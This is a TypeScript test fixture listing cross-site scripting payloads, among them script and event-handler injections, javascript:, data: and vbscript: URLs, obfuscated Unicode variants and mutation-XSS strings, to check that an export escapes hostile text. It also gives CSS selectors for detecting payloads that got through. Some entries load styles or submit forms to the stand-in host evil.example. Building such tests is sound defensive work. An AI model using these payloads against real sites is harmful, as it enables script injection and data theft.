/**
 * Hostile TEXT: markup and script in the encodings an attacker can get into an export (a message someone
 * sent, a page name, a thread title). Each carries a tag (`P00`…) so a test can find where it landed.
 */
export const TEXT_PAYLOADS: readonly string[] = [
  '<script>alert("P00")</script>',
  '<img src=x onerror=alert("P01")>',
  '<svg onload=alert("P02")><circle r=9></circle></svg>',
  `<a href="javascript:alert('P03')">P03 click me</a>`,
  '&lt;script&gt;alert("P04")&lt;/script&gt;',
  '&#60;img src=x onerror=alert(&#39;P05&#39;)&#62;',
  '\uff1cscript\uff1ealert("P06")\uff1c/script\uff1e',
  '<scr\u200bipt>alert("P07")</scr\u200bipt> zero\u200dwidth\ufeff',
  '\u202eP08 <b>gpj.exe</b>\u202c',
  `"><iframe srcdoc="<script>parent.alert('P09')</script>"></iframe>`,
  `{{constructor.constructor('alert("P10")')()}} \${alert("P10")}`,
  '<style>*{background:url(https://evil.example/P11.png)}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("P12")>',
  '<details open ontoggle=alert("P13")>P13</details>',
  `</textarea></title></script><script>alert("P14")</script>`,
  `<object data="javascript:alert('P15')"></object><embed src="javascript:alert('P15')">`,
  `<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/P16.css">`,
  `<form action="https://evil.example/P17"><input autofocus onfocus=alert("P17")></form>`,
];

/** A string of tens of kilobytes of markup: long texts must stay text too (and not stall the page). */
export const LONG_PAYLOAD = 'P18 ' + '<b onmouseover=alert("P18")>long</b> '.repeat(1500);

export const HOSTILE_URLS: readonly string[] = [
  `javascript:alert('U0')`,
  `https://evil.example/"><script>alert('U1')</script>`,
  `data:text/html,<script>alert('U2')</script>`,
  `https://evil.example/U3?q=<img src=x onerror=alert('U3')>`,
  `vbscript:msgbox("U4")`,
];

/** Folder names (thread folders, hence conversation ids and source paths) that are markup. */
export const HOSTILE_FOLDER = `<img src=x onerror=alert('F0')>_4242424242`;

/** A tag name or attribute that only a payload could have put in the page. */
export const PAYLOAD_SELECTORS = [
  'img[src="x"]',
  'svg[onload]',
  '[onerror]',
  '[onload]',
  '[ontoggle]',
  '[onfocus]',
  '[onmouseover]',
  'iframe',
  'object',
  'embed',
  'base',
  'form[action]',
  'mglyph',
  'details[open][ontoggle]',
  'a[href^="javascript:" i]',
  'a[href^="data:" i]',
  'a[href^="vbscript:" i]',
  'link[href*="evil.example"]',
] as const;
